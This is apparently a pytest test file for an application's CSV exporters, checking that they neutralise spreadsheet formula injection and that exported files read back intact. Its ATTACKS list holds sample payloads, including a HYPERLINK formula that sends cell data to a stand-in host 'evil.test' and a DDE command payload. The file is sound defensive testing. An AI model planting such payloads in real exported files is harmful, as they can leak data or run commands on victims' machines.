"""No file of the explorer runs in a spreadsheet, and its own files read back as they were."""

import csv
import io
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.csv_text import harmless, plain
from core.descriptions import Descriptions
from core.descriptions.files import export_descriptions, read_descriptions_file
from core.export import csv_bytes
from core.latent.lists import Noted, export_list, read_list_file

ATTACKS = [
    '=HYPERLINK("http://evil.test/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "＝1+1",
]
STARTS = tuple("=+-@\t\r\n＝＋－＠")


def cells(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_every_exporter_is_harmless() -> None:
    table = pd.DataFrame({"=name": ATTACKS, "n": -0.5}, index=[f"={n}" for n in range(8)])
    table["kind"] = pd.Categorical(ATTACKS)
    noted = [Noted("m", "r", "s", number, text) for number, text in enumerate(ATTACKS)]
    described = Descriptions.from_texts(ATTACKS, source="yours")
    files = (csv_bytes(table), export_list(noted, "csv"), export_descriptions(described, "csv"))
    for data in files:
        assert any("1+1" in cell for cell in cells(data))
        for cell in cells(data):
            assert not cell.startswith(STARTS) or cell == "-0.5", cell


def test_numbers_stay_numbers() -> None:
    table = pd.DataFrame({"n": [-1.5, 2.0], "k": [-3, 4], "text": ["-7", "+2.5e3"]})
    assert pd.read_csv(io.BytesIO(csv_bytes(table)))["n"].tolist() == [-1.5, 2.0]
    assert cells(csv_bytes(table))[3:] == ["-1.5", "-3", "-7", "2.0", "4", "+2.5e3"]


@given(st.text(alphabet=st.sampled_from("'=+-@\t a1.e")))
def test_what_is_read_back_is_what_was_written(text: str) -> None:
    assert plain(harmless(text)) == text


@pytest.mark.parametrize("note", ATTACKS[:4])
def test_own_files_read_back(note: str) -> None:
    noted = [Noted("m", "r", "s", 3, note)]
    assert read_list_file(export_list(noted, "csv"), "a.csv") == noted
    described = Descriptions.from_texts(["", note], source="yours")
    read = read_descriptions_file(export_descriptions(described, "csv"), "a.csv", d_sae=2)
    assert read.descriptions.texts[1] == note


def test_no_page_writes_csv_by_itself() -> None:
    for file in Path(__file__).resolve().parent.parent.joinpath("pages").rglob("*.py"):
        assert "to_csv" not in file.read_text(encoding="utf-8"), file
